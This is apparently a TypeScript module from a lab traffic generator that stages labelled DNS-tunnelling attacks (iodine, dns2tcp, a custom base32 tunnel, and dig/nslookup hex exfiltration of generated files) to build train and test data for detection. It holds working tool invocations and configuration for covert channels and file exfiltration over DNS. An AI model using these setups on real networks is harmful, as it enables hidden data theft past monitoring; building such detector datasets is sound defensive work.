import { writeFileSync } from 'node:fs'
import path from 'node:path'
import { between, pause, pick } from '../scene.ts'
import type { Attack, AttackScene, RentedServer } from '../scene.ts'
import { resolverOf, word } from './beacons-dns.ts'
import type { Way } from './beacons-dns.ts'
import { begin, beside, listening, python, runUntilEnd, withLoot } from './rented-programs.ts'

/** What a tunnel has to do with: its name server, whom it asks, and words for the label. */
interface Tunnel {
  readonly name: string
  readonly tool: string
  readonly corpora: Attack['corpora']
  readonly seconds: number
  readonly way: Way
  /** Throws when nothing went through. */
  readonly run: (scene: AttackScene, via: { server: RentedServer; resolver: string; say: (settings: string) => void }) => Promise<void>
}

function attackOf({ name, tool, corpora, seconds, way, run }: Tunnel): Attack {
  return {
    name, tool, corpora, seconds, category: 'dns-tunnel', place: 'inside',
    // The LAN's resolver is also what the actor's ordinary programs ask.
    isAlone: way === 'lan',
    play: async (scene) => {
      const server = scene.rent()
      const resolver = resolverOf(way, server.address)
      let settings = ''
      const fromMs = Date.now()
      try {
        await run(scene, { server, resolver, say: (text) => { settings = text } })
      } finally {
        scene.blame({
          role: 'entity', address: scene.actor.address, peers: [resolver], category: 'dns-tunnel',
          tool: `${name} ${settings}, asks ${resolver}`, fromMs, toMs: Date.now(),
        })
      }
    },
  }
}

let devices = 0

/** iodine: a network interface at both ends. What goes through it are pings and downloads. */
async function iodine(scene: AttackScene, { server, resolver, say }: Parameters<Tunnel['run']>[1]): Promise<void> {
  devices += 1
  const { random, actor } = scene
  const net = `172.${between(random, 16, 31)}.${between(random, 0, 255)}`
  // The other types carry a name back, too short for the fragments drawn below.
  const type = resolver === server.address ? pick(random, ['TXT', 'NULL']) : 'NULL'
  // Through a resolver only the polling manner was seen to work: it does not hold a question open for as long.
  const lazy = resolver === server.address && random.uniform() < 0.7 ? '1' : '0'
  say(`type ${type}, lazy ${lazy}`)
  const password = ['-P', word(scene, 8)]
  const far = ['iodined', '-f', '-c', '-d', `iod${devices}`, '-l', server.address, ...password, `${net}.1/27`, server.zone]
  const octets = String(between(random, 120, 400))
  const near = ['iodine', '-f', '-4', '-r', '-d', `iod${devices}`, '-T', type, '-L', lazy, '-m', octets, ...password]
  await beside(begin(scene, server.machine, { command: far, ready: 'Listening to dns for domain' }), async (daemon) => {
    const web = python('http_server.py', `${net}.1`, 8080, between(random, 1, 1_000_000))
    await beside(begin(scene, server.machine, { command: web, ready: 'ready' }), () => beside(
      begin(scene, actor, { command: [...near, resolver, server.zone], ready: 'Connection setup complete' }),
      async (client) => {
        const done = await useNetwork(scene, `${net}.1`)
        if (done < 3) throw new Error(`only ${done} things went through iodine: ${client.output()} ${daemon.output()}`)
      },
    ))
  })
}

/** Ordinary things through a tunnel with an interface: a ping, a download, an upload, a rest. Answers how many succeeded. */
export async function useNetwork(scene: AttackScene, far: string): Promise<number> {
  const { actor, random } = scene
  let done = 0
  do {
    const command = pick(random, [
      ['ping', '-q', '-n', '-c', String(between(random, 2, 8)), '-i', '0.5', '-s', String(between(random, 56, 700)), far],
      ['curl', '-s', '-m', '60', '-o', '/dev/null', `http://${far}:8080/page`],
      ['curl', '-s', '-m', '60', '-o', '/dev/null', '--data-binary', word(scene, between(random, 300, 9_000)), `http://${far}:8080/form`],
    ])
    const { exitCode } = await runUntilEnd(scene, actor, { command })
    if (exitCode === 0) done += 1
  } while (await pause(scene, between(random, 300, 8_000)))
  return done
}

/** dns2tcp: one TCP connection at a time through the names. */
async function dns2tcp(scene: AttackScene, { server, resolver, say }: Parameters<Tunnel['run']>[1]): Promise<void> {
  const { random, actor, lab } = scene
  const [port, type, key] = [between(random, 20_000, 30_000), pick(random, ['TXT', 'KEY']), word(scene, 10)]
  say(`type ${type}`)
  const settings = path.join(lab.folder, `dns2tcpd-${server.name}.conf`)
  const lines = [`listen = ${server.address}`, 'port = 53', 'user = nobody', 'chroot = /tmp', `domain = ${server.zone}`, `key = ${key}`,
    `resources = web:${server.address}:${port}`]
  writeFileSync(settings, `${lines.join('\n')}\n`)
  const web = python('http_server.py', server.address, port, between(random, 1, 1_000_000))
  await beside(begin(scene, server.machine, { command: web, ready: 'ready' }), (served) => beside(
    begin(scene, server.machine, { command: ['dns2tcpd', '-F', '-d', '1', '-f', settings] }), async (daemon) => {
      await listening(scene, server.machine, { address: server.address, port: 53, kind: 'udp' })
      const client = ['dns2tcpc', '-z', server.zone, '-k', key, '-T', type, '-r', 'web', '-l', String(port), resolver]
      await beside(begin(scene, actor, { command: client, ready: 'Listening on port' }), async (tunnel) => {
        do {
          const words = random.uniform() < 0.5 ? [] : ['--data-binary', word(scene, between(random, 300, 9_000))]
          await runUntilEnd(scene, actor, {
            command: ['curl', '-s', '-m', '60', '-o', '/dev/null', ...words, `http://127.0.0.1:${port}/page`],
          })
        } while (await pause(scene, between(random, 300, 8_000)))
        if (served.got().count < 2) throw new Error(`dns2tcp carried nothing: ${tunnel.output()} ${daemon.output()}`)
      })
    },
  ))
}

interface Own {
  readonly labels: readonly number[]
  readonly types: readonly string[]
  /** Questions a second, from and to. */
  readonly rate: readonly [number, number]
}

/** Our own: data in base32 names, answers with data. */
function ownTunnel({ labels, types, rate }: Own): Tunnel['run'] {
  return async (scene, { server, resolver, say }) => {
    const { random } = scene
    const seed = between(random, 1, 1_000_000)
    const perSecond = (rate[0] + random.uniform() * (rate[1] - rate[0])).toFixed(2)
    const [label, type] = [pick(random, labels), pick(random, types)]
    say(`${label} labels, type ${type}, ${perSecond} questions/s`)
    const far = python('dns_server.py', server.address, seed, pick(random, [60, 120, 180]))
    await beside(begin(scene, server.machine, { command: far, ready: 'ready' }), async (served) => {
      const seconds = Math.max(1, Math.floor((scene.endAtMs - Date.now()) / 1_000))
      const near = python('dns_tunnel.py', resolver, server.zone, seed + 1, label, type, perSecond, seconds)
      const { output } = await runUntilEnd(scene, scene.actor, { command: near })
      if (served.got().count < 8) throw new Error(`only ${served.got().count} questions came to ${server.address}: ${output.slice(-400)}`)
    })
  }
}

/** A file in the names that a shell script asks for. Exfiltration over DNS is a dns-tunnel here: the carrier is what can be seen. */
function scripted(asker: 'dig' | 'nslookup', [shortestS, longestS]: readonly [number, number]): Tunnel['run'] {
  return (scene, { server, resolver, say }) => {
    const { random, actor } = scene
    const [octets, pauseS] = [between(random, 18, 58), (shortestS + random.uniform() * (longestS - shortestS)).toFixed(2)]
    say(`${octets} octets a name, ${pauseS} s between`)
    const far = python('dns_server.py', server.address, between(random, 1, 1_000_000), 30)
    const serving = begin(scene, server.machine, { command: far, ready: 'ready' })
    return beside(serving, (served) => withLoot(scene, between(random, 30_000, 80_000), async (file) => {
      const words = [path.join(import.meta.dirname, 'tools/dig_exfiltrate.sh'), resolver, server.zone, file, String(octets), pauseS, asker]
      const { output } = await runUntilEnd(scene, actor, { command: ['bash', ...words] })
      if (served.got().count < 10) throw new Error(`only ${served.got().count} names came to ${server.address}: ${output}`)
    }))
  }
}

/** Data in DNS names. */
export const DNS_TUNNELS: readonly Attack[] = ([
  { name: 'iodine-direct', tool: 'iodine', corpora: ['train'], seconds: 240, way: 'direct', run: iodine },
  { name: 'iodine-resolver', tool: 'iodine', corpora: ['train'], seconds: 240, way: 'lan', run: iodine },
  { name: 'dns2tcp-internet', tool: 'dns2tcp', corpora: ['test'], seconds: 240, way: 'internet', run: dns2tcp },
  { name: 'dns2tcp-resolver', tool: 'dns2tcp', corpora: ['test'], seconds: 240, way: 'lan', run: dns2tcp },
  {
    name: 'python-base32-internet', tool: 'python-dns-tunnel', corpora: ['train'], seconds: 180, way: 'internet',
    run: ownTunnel({ labels: [1, 2, 3], types: ['A', 'TXT'], rate: [3, 25] }),
  },
  {
    name: 'python-base32-slow', tool: 'python-dns-tunnel', corpora: ['train'], seconds: 420, way: 'lan',
    run: ownTunnel({ labels: [1, 2], types: ['A', 'TXT'], rate: [0.4, 1.2] }),
  },
  { name: 'dig-hex-exfiltration', tool: 'bash-dig-hex', corpora: ['test'], seconds: 180, way: 'lan', run: scripted('dig', [0.02, 0.4]) },
  {
    name: 'nslookup-hex-exfiltration-slow', tool: 'bash-nslookup-hex', corpora: ['test'], seconds: 360, way: 'internet',
    run: scripted('nslookup', [0.8, 3]),
  },
] as const satisfies readonly Tunnel[]).map((each) => attackOf(each))

